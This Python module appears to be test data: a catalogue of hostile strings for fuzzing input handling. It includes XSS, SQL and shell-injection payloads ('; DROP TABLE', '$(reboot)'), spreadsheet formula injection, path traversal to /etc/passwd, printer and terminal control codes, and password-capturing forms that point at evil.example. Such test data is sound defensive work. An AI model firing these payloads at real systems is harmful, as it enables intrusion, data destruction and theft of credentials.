"""A hundred texts that somebody tries, by what they try. They are what a name, a note or a header may hold."""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '"><b onmouseover=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    '" onfocus="alert(1)" autofocus="',
    "` onfocus=alert(1) `",
    "<!-- ",
    "--><b>",
    "<![CDATA[<b>]]>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "&lt;b&gt;&#60;b&#62;",
    "javascript:alert(1)",
    "{{ 7 * 7 }}",
    "{% include 'x' %}",
    "{number} {0} {x.__class__}",
    "${alert(1)}",
    "\u2028alert(1)\u2029",
    "<plaintext>",
    "<math><mtext></form><form>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")',
    "\t=1+1",
    "\r=1+1",
    '";=1+1',
)
PRINTER_ORDERS = (
    "\x1b@",
    "\x1bp0\x19\xfa",
    "\x1dV\x00",
    "\x1bi",
    "\x10\x04\x01",
    "\x10\x14\x01\x00\x05",
    "\x1d(k\x03\x001Q0",
    "\x1bd\xff",
    "\x1b=\x01",
    "\x07" * 9,
    "A\x1b!\x38B",
    "\x9bp",
    "\x18\x0c",
)
TERMINAL_ORDERS = ("\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x9b2J", "a\rb", "a\x08\x08\x08b")
SPEECH_ORDERS = (
    "<speak>x</speak>",
    "<break time='3600s'/>",
    "<audio src='http://evil.example/x.wav'/>",
    "<prosody volume='x-loud'>x",
    "[[h@l'oU]]",
    "[[ [[ ]]",
    "]]x[[",
    "<<a>b>",
    "&lt;break/&gt;",
    "-f /etc/passwd",
    "--stdin",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| reboot",
)
LINES = (
    "a\nlevel='info' event='forged'",
    "a\r\nSet-Cookie: x=1",
    "a\x0bb",
    "a\x0cb",
    "a\x85b",
    "a\x1cb\x1db\x1eb",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "%2e%2e%2f",
    "..%00/",
    "file:///etc/passwd",
    "CON",
    "~root",
    ".",
    "..",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    '"; DELETE FROM outcomes; --',
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
    "\\'; SELECT pg_sleep(60); --",
    "' UNION SELECT data FROM events --",
    "%_%",
)
DIRECTIONS = (
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200f7\u200e",
    "\u061c1",
    "\u202a\u202b\u202c\u202d",
    "a\u200bb\u200dc\ufeffd",
)
WIDE = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U00020000",
    "\U0001d54f",
    "\U000e0041",
    "\U0010ffff",
    "Z\u0351\u0489\u0300" * 20,
    "\ufdfd" * 8,
    "x" * 5_000,
)
NOTHINGS = ("\x00", "a\x00b", "\x00" * 64, "\ufffe", "\uffff", "\x7f", " ", "\u3000", "\xa0")

LONE_SURROGATES = ("\ud800", "a\udc00b", "\udfff\ud800")
"""No UTF-8 holds them; JSON can write them all the same."""

WRITABLE = (
    *MARKUP,
    *FORMULAS,
    *PRINTER_ORDERS,
    *TERMINAL_ORDERS,
    *SPEECH_ORDERS,
    *LINES,
    *PATHS,
    *QUERIES,
    *DIRECTIONS,
    *WIDE,
    *NOTHINGS,
)
"""All that can be written as UTF-8."""

HOSTILE = (*WRITABLE, *LONE_SURROGATES)
